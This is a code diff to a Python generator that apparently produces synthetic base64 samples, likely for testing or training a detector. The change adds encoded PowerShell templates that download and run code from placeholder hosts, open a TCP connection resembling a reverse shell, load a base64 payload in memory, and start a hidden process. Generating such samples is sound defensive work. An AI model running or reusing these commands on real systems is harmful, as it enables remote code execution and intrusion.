@@ -105,8 +105,20 @@ def password(rng: random.Random) -> str:
 
 
 def encoded(rng: random.Random) -> str:
-    """Draw base64 of random bytes or of a short UTF-16 text."""
-    if rng.random() < 0.5:
+    """Draw base64 of random bytes, or of a short UTF-16 text: words, or PowerShell that loads more."""
+    roll = rng.random()
+    if roll < 0.6:
+        host = f"{rng.choice(('198.51.100', '203.0.113', '10.10.14'))}.{rng.randint(1, 254)}"
+        forms = (
+            f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{word(rng)}')",
+            f"$client = New-Object System.Net.Sockets.TCPClient('{host}',{rng.randint(80, 9999)});$stream = $client.GetStream()",
+            f"iwr http://{host}/{word(rng)}.ps1 | iex",
+            f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{word(rng)}'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()",
+            f"Start-Process {word(rng)}.exe -WindowStyle Hidden",
+        )
+        text = rng.choice(forms)
+        return base64.b64encode(text[: rng.randint(6, len(text))].encode("utf-16-le")).decode()
+    if roll < 0.8:
         return base64.b64encode(rng.randbytes(rng.randint(12, 90))).decode()
     return base64.b64encode(" ".join(word(rng) for _ in range(rng.randint(2, 8))).encode("utf-16-le")).decode()
 
